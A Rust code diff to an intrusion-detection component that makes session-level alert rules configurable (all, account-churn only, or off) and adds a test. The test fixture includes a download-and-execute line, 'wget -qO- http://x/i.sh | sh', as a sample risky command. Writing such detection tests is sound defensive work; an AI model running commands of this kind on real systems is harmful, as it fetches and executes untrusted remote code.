@@ -83,6 +83,26 @@ pub struct Assessment {
     pub features: [f32; features::FEATURE_COUNT],
 }
 
+/// Which session-level rules may raise a session's verdict (source- and
+/// device-level campaign alerts are always raised).
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum SessionRules {
+    /// All of them: a login from a campaign's address; a risky command the
+    /// user never ran with a new network, a rare hour or an unknown user; an
+    /// account arriving from network after network. For a schema-1 model,
+    /// which sees none of this.
+    #[default]
+    All,
+    /// Only the account arriving from network after network within a day
+    /// (what a schema-2 model still misses on the honeypot's logs; the
+    /// others it sees as features, and on top of it they only added false
+    /// positives: see docs/detection.md).
+    AccountChurn,
+    /// None: the model's verdict stands for sessions.
+    Off,
+}
+
 /// Baselines and campaign detectors of one device.
 #[derive(Debug, Clone)]
 pub struct Detector {
@@ -93,7 +113,7 @@ pub struct Detector {
     /// Sessions learnt since start (tells when the baselines need saving).
     learnt: u64,
     /// See [`Detector::set_session_rules`].
-    session_rules: bool,
+    session_rules: SessionRules,
 }
 
 impl Detector {
@@ -109,7 +129,7 @@ impl Detector {
             campaigns: CampaignDetector::new(campaign),
             recent: Vec::new(),
             learnt: 0,
-            session_rules: true,
+            session_rules: SessionRules::All,
         }
     }
 
@@ -211,12 +231,12 @@ impl Detector {
         Assessment { novelty, context, features }
     }
 
-    /// Whether the session-level rules (a login from a campaign's address, a
-    /// novelty that escalates) may raise a session's verdict. On by default,
-    /// for a schema-1 model that cannot see novelty; a schema-2 model sees
-    /// both as features (see docs/detection.md for the measurement).
-    pub fn set_session_rules(&mut self, on: bool) {
-        self.session_rules = on;
+    /// Which session-level rules may raise a session's verdict. All by
+    /// default, for a schema-1 model that cannot see novelty; the agent
+    /// with its schema-2 model keeps only [`SessionRules::AccountChurn`]
+    /// (see docs/detection.md for the measurement).
+    pub fn set_session_rules(&mut self, rules: SessionRules) {
+        self.session_rules = rules;
     }
 
     /// Judges one observation given the model's verdict, and learns it into
@@ -235,11 +255,15 @@ impl Detector {
         match obs.kind {
             ObservationKind::Session => {
                 if let (Some(kind), Some(ip)) = (campaign, obs.source_ip) {
-                    escalate = self.session_rules;
+                    escalate = self.session_rules == SessionRules::All;
                     reasons.push(format!("login from {ip}, which ran a {} against this device", campaign_words(kind)));
                 }
                 if let Some(n) = &novelty {
-                    escalate |= self.session_rules && n.escalates();
+                    escalate |= match self.session_rules {
+                        SessionRules::All => n.escalates(),
+                        SessionRules::AccountChurn => n.network_churn,
+                        SessionRules::Off => false,
+                    };
                     reasons.extend(n.reasons.iter().cloned());
                 }
             }
@@ -507,6 +531,20 @@ mod tests {
         assert!(all.contains("piped a wget download into a shell, a first for alice"), "{all}");
         assert!(!last.learnt, "a suspicious session is not learnt");
         assert_eq!(d.baselines().sessions_of("alice"), 14);
+    }
+
+    #[test]
+    fn with_only_the_account_churn_rule_a_risky_first_is_left_to_the_model() {
+        let mut d = Detector::new(DetectConfig::default());
+        d.set_session_rules(SessionRules::AccountChurn);
+        let mut lines = alice_history();
+        lines.extend(session(16, (3, 0), 2001, "alice", "203.0.113.50", 0, &["/usr/bin/wget -qO- http://x/i.sh | sh"]));
+        let (_, judged) = run(&mut d, &lines);
+        let (_, last) = judged.iter().rev().find(|(o, _)| o.kind == ObservationKind::Session).unwrap();
+        assert!(last.novelty.as_ref().unwrap().escalates(), "the novelty is there, as features");
+        assert!(!last.suspicious && !last.escalated, "but no rule raises it: {last:?}");
+        d.set_session_rules(SessionRules::Off);
+        assert_eq!(d.session_rules, SessionRules::Off);
     }
 
     #[test]
